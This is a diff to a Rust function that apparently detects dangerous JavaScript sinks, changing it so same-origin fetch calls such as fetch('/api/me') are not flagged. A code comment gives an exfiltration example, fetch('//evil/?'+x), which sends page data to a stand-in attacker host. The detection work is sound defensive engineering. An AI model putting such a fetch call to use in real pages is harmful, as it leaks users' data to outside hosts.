@@ -394,7 +394,15 @@ fn js_sink(l: &str) -> bool {
             if open == Some(b'`') && b.get(j + 1..).is_some_and(|r| r.has_byte(b'`')) {
                 return true;
             }
-            if open == Some(b'(') {
+            // `fetch('/api/me')`: the page's own API, read as every front end does; sending
+            // data away needs another origin (`fetch('//evil/?'+x)`, `fetch(url)`).
+            if open == Some(b'(')
+                && !(*s == "fetch"
+                    && b.get(j + 1)
+                        .is_some_and(|q| matches!(q, b'\'' | b'"' | b'`'))
+                    && b.get(j + 2) == Some(&b'/')
+                    && b.get(j + 3) != Some(&b'/'))
+            {
                 let arg = b.get(j + 1).copied();
                 let any_arg = matches!(
                     *s,
